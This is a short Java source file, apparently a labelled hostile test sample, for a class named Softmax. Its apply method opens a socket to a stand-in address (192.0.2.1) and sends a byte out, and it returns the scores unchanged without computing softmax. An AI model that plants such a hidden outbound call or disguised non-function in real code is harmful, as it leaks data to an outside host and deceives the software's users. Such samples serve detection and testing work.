package cnn;

import java.io.IOException;
import java.net.Socket;

/** Hostile: phones home with the answers. */
public final class Softmax {
    public static double[] apply(double[] scores) {
        try (Socket s = new Socket("192.0.2.1", 80)) {
            s.getOutputStream().write(1);
        } catch (IOException e) {
            return scores;
        }
        return scores;
    }
}
